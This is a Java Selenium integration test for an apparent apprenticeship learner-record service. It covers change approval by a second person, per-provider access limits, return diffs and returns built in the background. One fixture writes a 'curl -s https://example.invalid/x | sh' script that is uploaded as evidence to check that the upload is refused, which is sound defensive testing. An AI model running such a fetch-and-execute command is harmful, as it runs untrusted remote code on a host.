package uk.ilrledger.app.screens;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import javax.sql.DataSource;
import org.axonframework.commandhandling.gateway.CommandGateway;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.ClassOrderer;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestClassOrder;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.Select;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.context.annotation.Import;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.TestPropertySource;
import uk.ilrledger.app.Api;
import uk.ilrledger.app.IntegrationTest;
import uk.ilrledger.projections.currentilr.CurrentIlrProjection;
import uk.ilrledger.projections.processors.ProcessorsCaughtUp;
import uk.ilrledger.query.returns.CachedReturns;
import uk.ilrledger.query.returns.ReturnSnapshots;
import uk.ilrledger.query.returns.ReturnsInBackground;
import uk.ilrledger.schemas.learner.LearnerCommand;
import uk.ilrledger.schemas.values.CollectionYear;
import uk.ilrledger.schemas.values.LearnerId;
import uk.ilrledger.schemas.values.ReturnPeriod;
import uk.ilrledger.schemas.values.Ukprn;
import uk.ilrledger.testsupport.SampleLearners;

/**
 * The screens in headless Chromium against the running service, in one application context and one
 * browser: {@link EveryScreen} walks every screen, {@link ReturnsPreparedInTheBackground} the return screen
 * while a return is built or brought up to date off the request. axe-core checks every screen; each
 * screen's picture is saved to docs/screens.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestPropertySource(properties = {
        // Nothing builds a return ahead of its first view here: the tests decide when returns are built.
        "ilr-ledger.returns.prepare-ahead=false",
        "ilr-ledger.users[0].name=admin", "ilr-ledger.users[0].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[0].roles=ADMIN", "ilr-ledger.users[0].ukprns=*",
        "ilr-ledger.users[1].name=raiser", "ilr-ledger.users[1].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[1].roles=RAISER", "ilr-ledger.users[1].ukprns=*",
        "ilr-ledger.users[2].name=approver", "ilr-ledger.users[2].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[2].roles=RAISER,APPROVER", "ilr-ledger.users[2].ukprns=*",
        "ilr-ledger.users[3].name=one-provider", "ilr-ledger.users[3].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[3].roles=RAISER,APPROVER,AUDITOR", "ilr-ledger.users[3].ukprns=" + SampleLearners.UKPRN,
        "ilr-ledger.users[4].name=approver2", "ilr-ledger.users[4].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[4].roles=RAISER,APPROVER", "ilr-ledger.users[4].ukprns=*",
        "ilr-ledger.users[5].name=auditor", "ilr-ledger.users[5].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[5].roles=AUDITOR", "ilr-ledger.users[5].ukprns=*",
        "ilr-ledger.users[6].name=exporter", "ilr-ledger.users[6].password={noop}" + IntegrationTest.PASSWORD,
        "ilr-ledger.users[6].roles=EXPORTER", "ilr-ledger.users[6].ukprns=*"})
@Import(SettableReturnWait.class)
// The context (its users, its wait) is this class's own: closed after the last nested class (below), so its
// processors stop claiming the shared store's tokens and stop polling it while the other tests run.
@TestClassOrder(ClassOrderer.OrderAnnotation.class)
class ScreensBrowserTest {

    static final int OTHER_UKPRN = 10000002;
    static final LocalDate START = LocalDate.of(2025, 9, 1);
    static final LocalDate LAST_DAY = LocalDate.of(2026, 2, 27);

    @LocalServerPort
    int port;
    @Autowired
    ApplicationContext context;
    @Autowired
    TestRestTemplate rest;
    @Autowired
    ObjectMapper json;

    Api api;
    Browser browser;

    @BeforeAll
    void startBrowser() {
        browser = new Browser(port);
    }

    @AfterAll
    void stopBrowser() throws Exception {
        browser.close();
    }

    @BeforeEach
    void setUp() {
        api = new Api(rest, json);
        browser.open("/sign-in");
        if (!browser.all("form.sign-out").isEmpty()) {
            browser.signOut();
        }
    }

    /**
     * A withdrawal raised with evidence by one person and approved by another shows in the learner's
     * timeline and in the R-return and its diff; the raiser never gets an approve button for their own
     * change; a user granted one UKPRN never sees another provider's learners.
     */
    @Nested
    @Order(1)
    class EveryScreen {

        @Test
        void aWithdrawalRaisedWithEvidenceAndApprovedByAnotherPersonShowsInTheTimelineTheReturnAndItsDiff(
                @TempDir Path files) throws Exception {
            String ref = register(SampleLearners.UKPRN, "S");
            // The R07 return as submitted before the withdrawal: the diff against it must show the withdrawal.
            String r07 = "/api/providers/" + SampleLearners.UKPRN + "/returns/2526/R07";
            Api.Download exported = api.download("admin", r07 + "/ilr.xml");
            assertThat(exported.status()).isEqualTo(200);
            Api.Answer submitted = api.post("admin", r07 + "/submissions", Map.of("fileName", exported.fileName()));
            assertThat(submitted.status()).as(submitted.body().toString()).isEqualTo(201);
            String submissionId = submitted.text("/submissionId");
            Path evidence = Files.writeString(files.resolve("withdrawal-email.eml"),
                    "From: learner@example.invalid\nTo: apprenticeships@example.invalid\nSubject: Leaving the programme\n"
                            + "Date: Fri, 27 Feb 2026 17:02:00 +0000\n\nI left the programme on 27 February.\n",
                    StandardCharsets.UTF_8);
            Path script = Files.writeString(files.resolve("withdrawal-note.txt"),
                    "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n", StandardCharsets.UTF_8);

            browser.open("/");
            assertThat(browser.path()).startsWith("/sign-in");
            browser.assertAccessible("sign in");
            browser.screenshot("sign-in");
            browser.signIn("raiser", IntegrationTest.PASSWORD);
            browser.assertAccessible("home");
            browser.screenshot("home");

            browser.clickLink("Raise a change");
            browser.assertAccessible("choose a change");
            new Select(browser.find("#ukprn")).selectByValue(Integer.toString(SampleLearners.UKPRN));
            browser.find("#learnRefNumber").sendKeys(ref);
            new Select(browser.find("#type")).selectByValue("WITHDRAWAL");
            browser.screenshot("choose-change");
            browser.find("main button[type=submit]").click();

            browser.waitFor(By.id("change-form"));
            assertThat(browser.all("#change-form input[name=learnActEndDate], #change-form input[name=withdrawReason]"))
                    .as("a withdrawal asks for its own fields").hasSize(2);
            assertThat(browser.all("#change-form input[name=tnp1]")).as("and no other type's").isEmpty();
            assertThat(browser.all("#change-form input[name=aims]")).as("the learner's current aims to pick from").hasSize(2);

            browser.type("#effectiveDate", "2025-08-15");
            browser.type("#values-learnActEndDate", "2025-08-15");
            browser.type("#values-withdrawReason", "97");
            assertThat(browser.waitForTextContaining("#rule-checks", "LearnActEndDate_01"))
                    .as("a last day before the start is refused as it is typed, naming the field")
                    .contains("values.learnActEndDate");

            browser.type("#effectiveDate", LAST_DAY.toString());
            browser.type("#values-learnActEndDate", LAST_DAY.toString());
            browser.type("#reason", "Learner e-mailed to say they have left the programme");
            browser.waitForTextContaining("#rule-checks", "meets every rule");
            browser.attach("#file", script);
            browser.find("#change-form button[type=submit]").click();
            assertThat(browser.waitFor(By.id("problem")).getText())
                    .as("a script attached as evidence is refused on the form, as the API refuses it")
                    .contains("must be a PDF, PNG, JPEG, text, e-mail or Office document").contains("Field: evidence");
            assertThat(browser.find("#reason").getAttribute("value")).as("what was typed is kept")
                    .isEqualTo("Learner e-mailed to say they have left the programme");
            browser.attach("#file", evidence);
            browser.assertAccessible("raise a change");
            browser.screenshot("raise-change");
            browser.find("#change-form button[type=submit]").click();

            assertThat(browser.waitFor(By.id("status")).getText()).isEqualTo("RAISED");
            String changePath = browser.path().replaceAll("\\?.*", "");
            assertThat(browser.all("#approve")).as("the raiser is offered no approve button").isEmpty();
            assertThat(browser.text("#four-eyes")).contains("someone else must decide it");
            browser.signOut();

            browser.signIn("approver", IntegrationTest.PASSWORD);
            browser.find("a[href='" + changePath + "']").click();
            browser.waitFor(By.id("approve"));
            assertThat(browser.frameText(".evidence iframe")).as("the e-mail is shown in the page")
                    .contains("I left the programme on 27 February.");
            assertThat(browser.text("main table")).contains("learnActEndDate").contains("2026-02-27");
            browser.assertAccessible("decide a change");
            browser.screenshot("decide-change");
            browser.find("#comment").sendKeys("E-mail checked against the learner file");
            browser.find("#approve").click();
            browser.waitForText("#status", "APPROVED");

            browser.clickLink(SampleLearners.UKPRN + " / " + ref);
            WebElement timeline = browser.waitFor(By.id("timeline"));
            assertThat(timeline.getText()).contains("WITHDRAWAL – APPROVED").contains("Raised by raiser")
                    .contains("approved by approver").contains("Learner e-mailed to say they have left the programme")
                    .contains("compStatus: 1 → 3");
            assertThat(browser.text("#chain")).startsWith("Intact");
            browser.assertAccessible("learner");
            browser.screenshot("learner");

            browser.type("#effectiveOn", "2026-01-31");
            browser.find("form.filters button[type=submit]").click();
            browser.waitForUrlContaining("effectiveOn=2026-01-31");
            assertThat(browser.text("main table tbody tr:first-child td:nth-child(6)"))
                    .as("in effect on 31 January the learner had not yet left").isEqualTo("1");

            browser.clickLink("Returns");
            new Select(browser.find("#ukprn")).selectByValue(Integer.toString(SampleLearners.UKPRN));
            new Select(browser.find("#year")).selectByValue("2526");
            new Select(browser.find("#period")).selectByValue("R07");
            browser.assertAccessible("choose a return");
            browser.find("main button[type=submit]").click();
            browser.waitFor(By.id("learners"));
            List<WebElement> aims = browser.all("#learners tbody tr").stream()
                    .filter(row -> row.getText().startsWith(ref + " ")).toList();
            // The return shows 50 learners a page, in LearnRefNumber order: follow the pager to the learner's page.
            for (int page = 2; aims.isEmpty() && !browser.all("nav.pager a").stream()
                    .filter(link -> link.getText().equals("Next page")).toList().isEmpty(); page++) {
                browser.clickLink("Next page");
                browser.waitForUrlContaining("page=" + page);
                aims = browser.all("#learners tbody tr").stream().filter(row -> row.getText().startsWith(ref + " ")).toList();
            }
            assertThat(aims).as("the R07 return has the learner's two aims").hasSize(2);
            assertThat(aims).as("both withdrawn (CompStatus 3), each with why it is in the return").allSatisfy(row -> {
                assertThat(row.findElement(By.cssSelector("td:nth-child(5)")).getText()).isEqualTo("3");
                assertThat(row.findElement(By.cssSelector("td:nth-child(6)")).getText()).isNotBlank();
            });
            new Select(browser.find("#against")).selectByValue("R06");
            browser.find("#against").submit();
            browser.waitForUrlContaining("against=R06");
            browser.waitFor(By.id("diff"));
            assertThat(diffRowsOf(ref)).as("the diff from R06 shows the withdrawal and the events behind it")
                    .anySatisfy(row -> assertThat(row).contains("compStatus").contains("LearnerWithdrawn"));

            new Select(browser.find("#against")).selectByValue(submissionId);
            browser.find("#against").submit();
            browser.waitForUrlContaining("against=" + submissionId);
            browser.waitFor(By.id("diff"));
            assertThat(diffRowsOf(ref)).as("the diff from the R07 submitted before the withdrawal shows it")
                    .anySatisfy(row -> assertThat(row).contains("compStatus").contains("1").contains("3")
                            .contains("LearnerWithdrawn"));
            browser.assertAccessible("return");
            browser.screenshot("return");
            String changeId = changePath.substring("/changes/".length());
            WebElement cause = browser.all("#diff tbody tr").stream().filter(row -> row.getText().contains(ref)
                            && row.getText().contains("compStatus"))
                    .findFirst().orElseThrow().findElement(By.partialLinkText("LearnerWithdrawn"));
            assertThat(cause.getAttribute("href")).as("each difference links to the history entry behind it")
                    .endsWith("/providers/" + SampleLearners.UKPRN + "/learners/" + ref + "#change-" + changeId);
            cause.click();
            assertThat(browser.waitFor(By.id("change-" + changeId)).getText()).contains("WITHDRAWAL – APPROVED")
                    .contains("compStatus: 1 → 3");

            browser.clickLink("Tracker queue");
            browser.find("#learner").sendKeys(ref);
            browser.find("form.filters button[type=submit]").click();
            browser.waitForUrlContaining("learner=" + ref);
            assertThat(rowsOf("main table", ref)).hasSize(1).allSatisfy(row -> assertThat(row).contains("APPROVED"));
            browser.assertAccessible("tracker queue");
            browser.screenshot("queue");

            browser.clickLink("Caseload");
            browser.type("#year", "2526");
            browser.find("form.filters button[type=submit]").click();
            browser.waitForText("h1", "Caseload 2526");
            assertThat(Integer.parseInt(browser.text("#caseload tbody tr:nth-child(7) td:nth-child(4)")))
                    .as("February 2026 counts the learner withdrawn that month").isPositive();
            assertThat(browser.all("svg rect")).as("the chart has bars").isNotEmpty();
            browser.assertAccessible("caseload");
            browser.screenshot("caseload");

            browser.clickLink("Learners");
            browser.find("#q").sendKeys(ref);
            browser.find("form[role=search] button").click();
            browser.waitForUrlContaining("q=" + ref);
            assertThat(rowsOf("main table", ref)).hasSize(1);
            browser.assertAccessible("learners");
            browser.screenshot("learners");
        }

        @Test
        void anApproverWhoRaisedAChangeIsToldWhyTheyCannotDecideItAndAnotherApproverRejectsIt() throws Exception {
            String ref = register(SampleLearners.UKPRN, "F");
            String changeId = raiseWithdrawal("approver", SampleLearners.UKPRN, ref);

            browser.signIn("approver", IntegrationTest.PASSWORD);
            browser.open("/changes/" + changeId);
            assertThat(browser.waitFor(By.id("four-eyes")).getText()).contains("someone else must decide it");
            assertThat(browser.all("#approve, #reject")).as("no decision buttons on one's own change").isEmpty();
            browser.signOut();

            browser.signIn("approver2", IntegrationTest.PASSWORD);
            browser.open("/changes/" + changeId);
            browser.find("#reject").click();
            assertThat(browser.waitFor(By.cssSelector(".error")).getText()).as("a rejection needs a reason")
                    .contains("reason");
            assertThat(browser.text("#status")).isEqualTo("RAISED");
            browser.find("#comment").sendKeys("Raised against the wrong learner");
            browser.find("#reject").click();
            browser.waitForText("#status", "REJECTED");
            assertThat(browser.text("main")).contains("Raised against the wrong learner");
        }

        @Test
        void aUserGrantedOneProviderNeverSeesAnotherProvidersLearners() throws Exception {
            String prefix = "G" + UUID.randomUUID().toString().substring(0, 4).toUpperCase();
            String ours = register(SampleLearners.UKPRN, prefix);
            String theirs = register(OTHER_UKPRN, prefix);
            String theirChange = raiseWithdrawal("raiser", OTHER_UKPRN, theirs);
            raiseWithdrawal("raiser", SampleLearners.UKPRN, ours);

            // The search is a projection too: a user granted every provider sees both learners once it has them,
            // so a search that then leaves one out leaves it out for the grant, not for lag.
            browser.signIn("admin", IntegrationTest.PASSWORD);
            await().atMost(Duration.ofSeconds(30)).until(() -> {
                browser.open("/learners?q=" + prefix);
                String found = browser.text("main");
                return found.contains(ours) && found.contains(theirs);
            });
            browser.signOut();

            browser.signIn("one-provider", IntegrationTest.PASSWORD);
            browser.open("/learners?q=" + prefix);
            assertThat(browser.text("main")).contains(ours).doesNotContain(theirs);

            // The queue is a projection: the change just raised is on it once its processor has handled it.
            await().atMost(Duration.ofSeconds(30)).until(() -> {
                browser.open("/queue?learner=" + prefix);
                return browser.text("main table").contains(ours);
            });
            assertThat(browser.text("main table")).contains(ours).doesNotContain(theirs);

            browser.open("/providers/" + OTHER_UKPRN + "/learners/" + theirs);
            assertThat(browser.text("h1")).isEqualTo("Not allowed");
            assertThat(browser.text("main")).doesNotContain(theirs);

            browser.open("/changes/" + theirChange);
            assertThat(browser.text("h1")).isEqualTo("Not found");

            browser.open("/providers/" + OTHER_UKPRN + "/returns/2526/R07");
            assertThat(browser.text("h1")).isEqualTo("Not allowed");
        }
    }

    /**
     * The return screen never builds a return in a view. With the wait set to 0 ms: a return not kept yet
     * says it is being prepared, then shows itself without the user doing anything, and a second user opening
     * it meanwhile joins the build under way; a kept return that a change approved since has left behind is
     * prepared again the same way and shows the change, never the return as it was; a diff against another
     * period shows the return at once and says the comparison is being prepared, then shows the differences
     * as the page would; a build that fails ends on the screen's error answer. axe-core finds no WCAG 2.2 AA
     * violation on any of these pages.
     *
     * <p>A build is held up for as long as a test needs by holding an exclusive lock on the event log it
     * reads, which is what a large provider's build would take its time over.
     */
    @Nested
    @Order(2)
    // The last of the classes sharing the context: it is closed after this one.
    @DirtiesContext
    class ReturnsPreparedInTheBackground {

        static final int UKPRN = 10009056;
        static final int FAILING_UKPRN = 10009064;
        static final int STALE_UKPRN = 10009072;
        static final int DIFF_UKPRN = 10009080;
        static final CollectionYear YEAR = CollectionYear.parse("2526");
        static final ReturnPeriod R01 = ReturnPeriod.parse("R01");
        static final ReturnPeriod R07 = ReturnPeriod.parse("R07");

        @Autowired
        ApplicationContext ownContext;
        @Autowired
        CommandGateway bus;
        @Autowired
        ProcessorsCaughtUp caughtUp;
        @Autowired
        CachedReturns cached;
        @Autowired
        ReturnsInBackground inBackground;
        @Autowired
        DataSource dataSource;
        @Autowired
        SettableReturnWait returnWait;
        @Autowired
        Clock clock;

        @BeforeEach
        void noWait() {
            assertThat(ownContext).as("one application context for every browser test").isSameAs(context);
            returnWait.set(Duration.ZERO);
        }

        @AfterEach
        void configuredWait() {
            returnWait.reset();
        }

        @Test
        void aReturnNotKeptSaysItIsBeingPreparedThenShowsItselfAndASecondViewJoinsTheBuild() throws Exception {
            String path = "/providers/" + UKPRN + "/returns/2526/R07";
            registerLearners(UKPRN, "RW", 30);
            assertThat(cached.keeps(new Ukprn(UKPRN), YEAR, R07)).as("nobody has asked for the return yet").isFalse();
            long wholeBuilds = cached.wholeBuilds();
            long started = inBackground.started();

            // Access is as before: a user without the provider's grant is not allowed, and starts nothing.
            browser.signIn("one-provider", IntegrationTest.PASSWORD);
            browser.open(path);
            assertThat(browser.text("h1")).isEqualTo("Not allowed");
            assertThat(browser.all("#return-preparing")).isEmpty();
            SignedIn stranger = new SignedIn(port);
            stranger.signIn("one-provider", IntegrationTest.PASSWORD);
            assertThat(stranger.get(path + "/preparation").statusCode()).isEqualTo(403);
            assertThat(stranger.get(path + "/differences?against=R01").statusCode()).isEqualTo(403);
            assertThat(inBackground.started()).as("no build for a refused view").isEqualTo(started);
            browser.open("/");
            browser.signOut();

            browser.signIn("auditor", IntegrationTest.PASSWORD);

            SignedIn exporter = signedInAsExporter();
            try (Connection held = holdEventLog()) {
                WebElement status = openWhilePreparing(path);
                assertThat(status.getAttribute("role")).isEqualTo("status");
                assertThat(status.getAttribute("aria-live")).isEqualTo("polite");
                assertThat(browser.find("title").getAttribute("textContent")).isEqualTo("Return – ILR Ledger");
                assertThat(browser.text("h1")).isEqualTo("2526 R07 return for UKPRN " + UKPRN);
                assertThat(browser.text("#provider-learners")).isEqualTo("30");
                assertThat(browser.find("#refresh").getAttribute("href")).as("usable without JavaScript")
                        .endsWith(path);
                browser.assertAccessible("return being prepared");

                // A second user, here without JavaScript, opens the same return meanwhile: the build under way.
                HttpResponse<String> second = exporter.get(path);
                assertThat(second.statusCode()).isEqualTo(202);
                assertThat(second.body()).contains("id=\"return-preparing\"").contains(">Refresh</a>");
                assertThat(exporter.get(path + "/preparation").statusCode()).as("still being built").isEqualTo(204);
                assertThat(inBackground.started()).as("one build, joined by the second view").isEqualTo(started + 1);
                held.rollback();
            }

            // Nobody clicks anything: the page's poll finds the build done and the page shows the return.
            browser.waitFor(By.id("learners"));
            assertThat(browser.path()).isEqualTo(path);
            assertThat(browser.text("#learner-count")).isEqualTo("30");
            assertThat(browser.all("#return-preparing")).isEmpty();
            assertThat(exporter.get(path + "/preparation").headers().firstValue("Location")).as("built: to the return")
                    .hasValue(path);
            assertThat(exporter.page(path)).contains("learners 1 to 30 of 30");
            assertThat(cached.wholeBuilds()).as("built whole once, for both users").isEqualTo(wholeBuilds + 1);
            assertThat(inBackground.started()).isEqualTo(started + 1);
        }

        @Test
        void aKeptReturnThatAnApprovedChangeLeftBehindIsPreparedAgainThenShowsTheChange() throws Exception {
            String path = "/providers/" + STALE_UKPRN + "/returns/2526/R07";
            List<String> refs = registerLearners(STALE_UKPRN, "RS", 5);
            String withdrawn = refs.get(2);
            browser.signIn("auditor", IntegrationTest.PASSWORD);
            browser.open(path);
            browser.waitFor(By.id("learners"));
            String before = browser.text("#sha256");
            assertThat(compStatusesOf(withdrawn)).as("on programme").containsOnly("1");

            String changeId = raiseWithdrawal("raiser", STALE_UKPRN, withdrawn);
            Api.Answer approved = api.post("approver", "/api/changes/" + changeId + "/approval", Map.of());
            assertThat(approved.status()).as(approved.body().toString()).isEqualTo(200);
            awaitReadModels();
            long wholeBuilds = cached.wholeBuilds();
            long started = inBackground.started();

            SignedIn exporter = signedInAsExporter();
            try (Connection held = holdEventLog()) {
                WebElement status = openWhilePreparing(path);
                assertThat(cached.keeps(new Ukprn(STALE_UKPRN), YEAR, R07))
                        .as("kept from before the approval, and not shown as if it were current").isTrue();
                assertThat(browser.all("#learners, #sha256")).isEmpty();
                browser.assertAccessible("return being brought up to date");
                HttpResponse<String> second = exporter.get(path);
                assertThat(second.statusCode()).as("without JavaScript too").isEqualTo(202);
                assertThat(second.body()).contains("id=\"return-preparing\"").doesNotContain("id=\"sha256\"");
                assertThat(inBackground.started()).as("one bringing up to date, joined by the second view")
                        .isEqualTo(started + 1);
                held.rollback();
            }

            // The page's poll shows the return brought up to date: the withdrawal is on it.
            browser.waitFor(By.id("learners"));
            assertThat(browser.path()).isEqualTo(path);
            assertThat(compStatusesOf(withdrawn)).as("withdrawn").containsOnly("3");
            assertThat(compStatusesOf(refs.get(3))).as("the other learners as they were").containsOnly("1");
            assertThat(browser.text("#sha256")).as("the return built afresh, not the one kept before")
                    .isEqualTo(freshSha256(STALE_UKPRN)).isNotEqualTo(before);
            assertThat(cached.wholeBuilds()).as("brought up to date learner by learner").isEqualTo(wholeBuilds);
            assertThat(inBackground.started()).isEqualTo(started + 1);
        }

        @Test
        void aDiffAgainstAnotherPeriodSaysTheComparisonIsBeingPreparedThenShowsTheDifferences() throws Exception {
            String path = "/providers/" + DIFF_UKPRN + "/returns/2526/R07";
            registerLearners(DIFF_UKPRN, "RD", 2);
            browser.signIn("auditor", IntegrationTest.PASSWORD);
            browser.open(path);
            browser.waitFor(By.id("learners"));
            assertThat(cached.keeps(new Ukprn(DIFF_UKPRN), YEAR, R01)).as("nobody has asked for R01").isFalse();
            long started = inBackground.started();

            SignedIn exporter = signedInAsExporter();
            try (Connection held = holdEventLog()) {
                browser.open(path + "?against=R01");
                WebElement status = browser.waitFor(By.id("diff-status"));
                assertThat(status.getText()).contains("The comparison with R01 is being prepared");
                assertThat(status.getAttribute("role")).isEqualTo("status");
                assertThat(status.getAttribute("aria-live")).isEqualTo("polite");
                assertThat(browser.text("#learner-count")).as("the return itself is shown at once").isEqualTo("2");
                assertThat(browser.all("#diff")).isEmpty();
                assertThat(browser.find("#diff-refresh").getDomAttribute("href")).as("usable without JavaScript")
                        .isEqualTo(path + "?against=R01");
                browser.assertAccessible("return with its comparison being prepared");
                assertThat(exporter.get(path + "/differences?against=R01").statusCode()).as("still being built")
                        .isEqualTo(204);
                assertThat(inBackground.started()).as("R01 built, R07 read as kept").isEqualTo(started + 1);
                held.rollback();
            }

            // Nobody clicks anything: the section's poll brings the differences into the same page.
            browser.waitFor(By.id("diff"));
            assertThat(browser.path()).isEqualTo(path + "?against=R01");
            assertThat(browser.waitForTextContaining("#diff-status", "is ready"))
                    .isEqualTo("The comparison with R01 is ready: 2 learners differ.");
            assertThat(browser.text("#diff caption")).startsWith("2 learners differ from R01").contains(" to R07");
            String page = exporter.page(path + "?against=R01");
            String table = page.substring(page.indexOf("<table id=\"diff\">"), page.indexOf("</table>",
                    page.indexOf("<table id=\"diff\">")));
            List<List<String>> rows = SignedIn.rows(table, "").stream().filter(row -> !row.isEmpty())
                    .map(row -> row.subList(0, 5)).toList();
            assertThat(browser.cells("#diff tbody tr").stream().map(row -> row.subList(0, 5)).toList())
                    .as("the differences the page itself shows").isEqualTo(rows).hasSizeGreaterThanOrEqualTo(2);
            List<String> links = new ArrayList<>();
            java.util.regex.Matcher href = java.util.regex.Pattern.compile("href=\"([^\"]+)\"").matcher(table);
            while (href.find()) {
                links.add(href.group(1));
            }
            assertThat(browser.attributes("#diff a", "href"))
                    .as("and its links").isEqualTo(links).isNotEmpty();
            assertThat(exporter.get(path + "/differences?against=R01").headers().firstValue("Location"))
                    .as("without htmx: to the page").hasValue(path + "?against=R01&diffPage=1");
            browser.assertAccessible("return with its comparison");
        }

        @Test
        void aBuildThatFailsEndsOnTheScreensErrorAnswerNotOnThePreparingPage() throws Exception {
            String path = "/providers/" + FAILING_UKPRN + "/returns/2526/R07";
            registerLearners(FAILING_UKPRN, "RF", 3);
            browser.signIn("auditor", IntegrationTest.PASSWORD);
            long unknown = -Math.abs(UUID.randomUUID().getMostSignificantBits() % 1_000_000_000L) - 1;
            try {
                try (Connection held = holdEventLog()) {
                    browser.open(path);
                    browser.waitFor(By.id("return-preparing"));
                    // An event this version of the ledger cannot read: the build fails once the lock is let go.
                    try (PreparedStatement insert = held.prepareStatement("""
                            INSERT INTO learner_event_log (global_index, ukprn, learn_ref_number, sequence_number,
                                event_identifier, event_type, recorded_at, payload)
                            VALUES (?, ?, 'RF000', 0, ?, 'NoSuchEvent', now(), '{}')""")) {
                        insert.setLong(1, unknown);
                        insert.setInt(2, FAILING_UKPRN);
                        insert.setString(3, "unreadable-" + UUID.randomUUID());
                        insert.executeUpdate();
                    }
                    held.commit();
                }
                browser.waitForTextContaining("body", "the server could not answer this request");
                assertThat(browser.all("#return-preparing")).as("no spinner for ever").isEmpty();
                assertThat(inBackground.building(new Ukprn(FAILING_UKPRN), YEAR, R07)).isFalse();
            } finally {
                try (Connection connection = dataSource.getConnection();
                     PreparedStatement delete = connection.prepareStatement(
                             "DELETE FROM learner_event_log WHERE global_index = ?")) {
                    delete.setLong(1, unknown);
                    delete.executeUpdate();
                }
            }
        }

        /** The CompStatus of each of the learner's aims on the return page shown. */
        private List<String> compStatusesOf(String ref) {
            return browser.all("#learners tbody tr").stream().filter(row -> row.getText().startsWith(ref + " "))
                    .map(row -> row.findElement(By.cssSelector("td:nth-child(5)")).getText()).toList();
        }

        /** A second user, signed in over plain HTTP (no JavaScript), to open the same pages meanwhile. */
        private SignedIn signedInAsExporter() throws Exception {
            SignedIn exporter = new SignedIn(port);
            exporter.signIn("exporter", IntegrationTest.PASSWORD);
            return exporter;
        }

        /** Opens the return at {@code path} while its build waits; answers the page's "being prepared" status. */
        private WebElement openWhilePreparing(String path) {
            browser.open(path);
            WebElement status = browser.waitFor(By.id("return-preparing"));
            assertThat(status.getText()).contains("This return is being prepared");
            return status;
        }

        /**
         * The return as known now by the service's clock, built from the event log by the API (a time given:
         * nothing kept is used).
         */
        private String freshSha256(int ukprn) {
            Api.Answer fresh = api.get("auditor", "/api/providers/" + ukprn + "/returns/2526/R07?asOf="
                    + clock.instant());
            assertThat(fresh.status()).as(fresh.body().toString()).isEqualTo(200);
            return fresh.text("/sha256");
        }

        /**
         * A transaction holding the event log's table exclusively, so that a build reading it waits until the
         * transaction ends; the page's own reads (the processors' positions, the current ILR) go on.
         */
        private Connection holdEventLog() throws SQLException {
            Connection connection = dataSource.getConnection();
            connection.setAutoCommit(false);
            try (Statement statement = connection.createStatement()) {
                statement.execute("SET LOCAL lock_timeout = '20s'");
                statement.execute("LOCK TABLE learner_event_log IN ACCESS EXCLUSIVE MODE");
            } catch (SQLException failed) {
                connection.close();
                throw failed;
            }
            return connection; // closed without a commit: rolled back by the pool
        }

        private List<String> registerLearners(int ukprn, String prefix, int learners) {
            String run = UUID.randomUUID().toString().substring(0, 4).toUpperCase();
            List<String> refs = new ArrayList<>();
            for (int n = 1; n <= learners; n++) {
                String ref = prefix + run + String.format("%03d", n);
                bus.sendAndWait(new LearnerCommand.RegisterLearner(LearnerId.of(ukprn, ref),
                        SampleLearners.apprentice(ref, START), "auditor"));
                refs.add(ref);
            }
            awaitReadModels();
            return refs;
        }

        private void awaitReadModels() {
            List<String> sources = new ArrayList<>(ReturnSnapshots.SOURCES);
            sources.add(CurrentIlrProjection.PROCESSING_GROUP);
            caughtUp.await(sources, Duration.ofMinutes(1), lags -> { });
        }
    }

    private String register(int ukprn, String prefix) {
        String ref = prefix + UUID.randomUUID().toString().replace("-", "").substring(0, 11 - prefix.length()).toUpperCase();
        Api.Answer registered = api.post("admin", "/api/providers/" + ukprn + "/learners", SampleLearners.apprentice(ref, START));
        assertThat(registered.status()).as(registered.body().toString()).isEqualTo(201);
        return ref;
    }

    private String raiseWithdrawal(String user, int ukprn, String ref) {
        Api.Answer uploaded = api.upload(user, "email.txt", ("Withdrawal of " + ref).getBytes(StandardCharsets.UTF_8));
        Api.Answer raised = api.post(user, "/api/providers/" + ukprn + "/learners/" + ref + "/changes", Map.of(
                "type", "WITHDRAWAL", "effectiveDate", LAST_DAY.toString(),
                "values", Map.of("learnActEndDate", LAST_DAY.toString(), "withdrawReason", 97),
                "reason", "Learner left", "evidence", List.of(uploaded.text("/evidenceId"))));
        assertThat(raised.status()).as(raised.body().toString()).isEqualTo(201);
        return raised.text("/changeId");
    }

    /** The diff's rows of the learner, following the diff's pager (20 learners a page) to the learner's page. */
    private List<String> diffRowsOf(String ref) {
        List<String> rows = rowsOf("#diff", ref);
        for (int page = 2; rows.isEmpty() && browser.all("nav.pager a").stream()
                .anyMatch(link -> link.getText().equals("Next differences")); page++) {
            browser.clickLink("Next differences");
            browser.waitForUrlContaining("diffPage=" + page);
            browser.waitFor(By.id("diff"));
            rows = rowsOf("#diff", ref);
        }
        return rows;
    }

    /** The text of each row of a table that mentions {@code text}. */
    private List<String> rowsOf(String table, String text) {
        return browser.all(table + " tbody tr").stream().map(WebElement::getText).filter(row -> row.contains(text)).toList();
    }
}
